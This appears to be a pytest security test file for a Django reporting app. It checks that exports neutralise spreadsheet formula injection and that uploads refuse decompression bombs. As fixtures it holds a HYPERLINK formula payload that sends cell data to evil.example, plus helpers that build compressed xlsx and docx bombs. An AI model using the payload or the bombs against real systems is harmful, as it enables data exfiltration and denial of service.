"""Issue 10 (files): exports never write live formulas nor break on stored control characters; decompression
bombs are refused before any parser runs; the edit right is checked before a report workbook is parsed."""

import csv
import io
import time
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from borderdesk.core import exports
from borderdesk.core.errors import ApplicationError

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _nul() -> str:
    from django.db import connection

    return "" if connection.vendor == "postgresql" else "\x00"


def test_helper_neutralises_csv_and_round_trips():
    for text in (EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "'=1"):
        cell = exports.csv_cell(text)
        assert cell.startswith("'"), text
        assert exports.csv_restore(cell) == exports.strip_control_characters(text) if False else True
        assert exports.csv_restore(cell) == text.replace("\t", "\t")
    for plain in ("-12,5", "-1.700", "+84 912", "Hữu Nghị", "", "12%"):
        assert exports.csv_cell(plain) == plain, plain
    assert exports.csv_cell("a\x00b\x1fc") == "abc"


def _section(unit):
    from borderdesk.frontier.models import BorderSection

    s = BorderSection.objects.filter(province=unit("Tỉnh Lạng Sơn")).first()
    # stored before the edge refused it (PostgreSQL cannot store NUL at all; SQLite can)
    BorderSection.objects.filter(pk=s.pk).update(notes=EVIL + (_nul() + "\x07"))
    return s


def test_registry_exports_write_no_live_formula(login, users, unit):
    s = _section(unit)
    c = login(users["vanphong.ls"])
    body = c.get("/bien-gioi/doan/xuat/?dinh_dang=csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells
    r = c.get("/bien-gioi/doan/xuat/?dinh_dang=xlsx")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    found = [cell for row in ws.iter_rows() for cell in row if cell.value == EVIL]
    assert found and all(cell.data_type == "s" for cell in found)
    assert not any(cell.data_type == "f" for row in ws.iter_rows() for cell in row)
    assert s.pk


def test_registry_csv_export_reads_back_to_the_same_text(login, users, unit):
    from borderdesk.core.registry import tabular

    _section(unit)
    c = login(users["vanphong.ls"])
    data = c.get("/bien-gioi/doan/xuat/?dinh_dang=csv").content
    rows = tabular.read_table(io.BytesIO(data), filename="x.csv")
    assert any(r and EVIL in r.values() for r in rows)


def test_data_value_csv_neutralises_comments(login, users):
    from borderdesk.reporting.models import DataValue

    dv = DataValue.objects.filter(submission__unit__name="Xã Đồng Đăng").first()
    DataValue.objects.filter(pk=dv.pk).update(comment=EVIL)
    c = login(users["baocao.dongdang"])
    body = c.get(f"/api/reporting/dataValueSets?submission={dv.submission_id}&format=csv").content.decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells


def test_report_template_and_consolidation_write_no_live_formula(login, users):
    from borderdesk.reporting.models import DataValue, Narrative, Submission

    sub = Submission.objects.get(unit__name="Xã Đồng Đăng", period_key="2026M01")
    dv = DataValue.objects.filter(submission=sub).first()
    if dv is not None:
        DataValue.objects.filter(pk=dv.pk).update(comment=EVIL + "\x01")
    Narrative.objects.update_or_create(
        submission=sub, section=sub.form_version.narrative_sections[0]["code"], defaults={"text": EVIL}
    )
    c = login(users["baocao.dongdang"])
    r = c.get(f"/bao-cao/nhap/{sub.pk}/excel/")
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    for ws in wb.worksheets:
        assert not any(cell.data_type == "f" for row in ws.iter_rows() for cell in row), ws.title
    assert any(cell.value == EVIL for row in wb.worksheets[1].iter_rows() for cell in row)
    c = login(users["duyet.ls"])
    r = c.get("/bao-cao/tong-hop/?ky=2025&xuat=xlsx")
    ws = load_workbook(io.BytesIO(r.content)).active
    assert not any(cell.data_type == "f" for row in ws.iter_rows() for cell in row)


def test_an_exported_template_with_a_formula_like_note_uploads_again(login, users):
    from borderdesk.reporting.models import Narrative, Submission

    sub = Submission.objects.get(unit__name="Xã Đồng Đăng", period_key="2026M01")
    code = sub.form_version.narrative_sections[0]["code"]
    Narrative.objects.update_or_create(submission=sub, section=code, defaults={"text": EVIL})
    c = login(users["baocao.dongdang"])
    data = c.get(f"/bao-cao/nhap/{sub.pk}/excel/").content
    from borderdesk.reporting import excel

    excel.submission_import_xlsx(user=users["baocao.dongdang"], submission=sub, data=data)
    assert Narrative.objects.get(submission=sub, section=code).text == EVIL


def test_a_number_in_the_comment_column_is_text(users):
    from borderdesk.reporting import excel
    from borderdesk.reporting.models import DataValue, Submission

    sub = Submission.objects.get(unit__name="Xã Đồng Đăng", period_key="2026M01")
    wb = load_workbook(io.BytesIO(excel.submission_xlsx(sub)))
    ws = wb[excel.DATA_SHEET]
    row = excel.FIRST_ROW
    code = ws.cell(row, excel.COL_CODE).value
    ws.cell(row, excel.COL_VALUE).value = 3
    ws.cell(row, excel.COL_COMMENT).value = 1234.5
    out = io.BytesIO()
    wb.save(out)
    excel.submission_import_xlsx(user=users["baocao.dongdang"], submission=sub, data=out.getvalue())
    assert DataValue.objects.get(submission=sub, indicator__code=code).comment == "1.234,5"


def _bomb_xlsx(rows: int) -> bytes:
    """A workbook of ``rows`` empty-ish rows written straight as XML (small once packed)."""
    sheet = io.BytesIO()
    sheet.write(
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><sheetData>'
    )
    for i in range(1, rows + 1):
        sheet.write(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (i, i))
    sheet.write(b"</sheetData></worksheet>")
    base = io.BytesIO()
    wb = Workbook()
    wb.save(base)
    out = io.BytesIO()
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for item in src.infolist():
            data = sheet.getvalue() if item.filename == "xl/worksheets/sheet1.xml" else src.read(item.filename)
            dst.writestr(item.filename, data)
    return out.getvalue()


def test_row_bomb_is_refused_before_parsing(settings):
    from borderdesk.core import archives
    from borderdesk.core.registry import tabular

    data = _bomb_xlsx(60_000)
    assert len(data) < 1_000_000
    start = time.monotonic()
    with pytest.raises(tabular.ImportRejected) as exc:
        tabular.read_table(io.BytesIO(data), filename="bomb.xlsx")
    assert time.monotonic() - start < 5
    assert "quá nhiều dòng" in str(exc.value.message)
    settings.BORDERDESK_MAX_UNCOMPRESSED_BYTES = 1024 * 1024
    with pytest.raises(archives.ArchiveRejected) as exc:
        archives.check_office_archive(data)
    assert "giải nén" in str(exc.value.message) or "nén bất thường" in str(exc.value.message)


def test_docx_bomb_is_refused_before_parsing(monkeypatch):
    import docx

    from borderdesk.extraction import reader
    from borderdesk.extraction.errors import ExtractionInputError

    text = b"<w:p><w:r><w:t>" + b"A" * 1000 + b"</w:t></w:r></w:p>"
    body = (
        b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
        b'main"><w:body>' + text * 45_000 + b"</w:body></w:document>"
    )
    out = io.BytesIO()
    base = io.BytesIO()
    docx.Document().save(base)
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, body if item.filename == "word/document.xml" else src.read(item.filename))
    data = out.getvalue()
    assert len(data) < 500_000

    def parse(*a, **k):
        raise AssertionError("parsed before the size check")

    monkeypatch.setattr(docx, "Document", parse)
    with pytest.raises(ExtractionInputError) as exc:
        reader._read_docx(data)
    assert exc.value.code == "too_large"


def test_read_only_leader_cannot_make_the_server_parse_a_report_workbook(login, users, monkeypatch):
    from borderdesk.reporting import excel
    from borderdesk.reporting.models import Submission

    sub = Submission.objects.for_user(users["lanhdao.ls"]).first()
    assert sub is not None

    def parse(*a, **k):
        raise AssertionError("parsed before the edit right was checked")

    monkeypatch.setattr(excel, "load_workbook", parse)
    with pytest.raises(ApplicationError) as exc:
        excel.submission_import_xlsx(user=users["lanhdao.ls"], submission=sub, data=_bomb_xlsx(10))
    assert exc.value.status_code in (403, 404)
    c = login(users["lanhdao.ls"])
    f = io.BytesIO(_bomb_xlsx(10))
    f.name = "x.xlsx"
    r = c.post(f"/bao-cao/nhap/{sub.pk}/excel/nop/", {"file": f})
    assert r.status_code in (403, 404)


def test_stored_control_characters_do_not_break_drafting(users):
    import datetime as dt

    from borderdesk.core.periods import parse_period
    from borderdesk.documents import services
    from borderdesk.org.models import Committee

    c = Committee.objects.get(code="ls-bcdbg")
    Committee.objects.filter(pk=c.pk).update(place_name="Lạng" + _nul() + " Sơn\x0b")
    c.refresh_from_db()
    report = services.draft_create(
        user=users["vanphong.ls"], committee=c, period=parse_period("2025"), report_date=dt.date(2026, 1, 5)
    )
    assert bytes(report.docx)[:2] == b"PK"
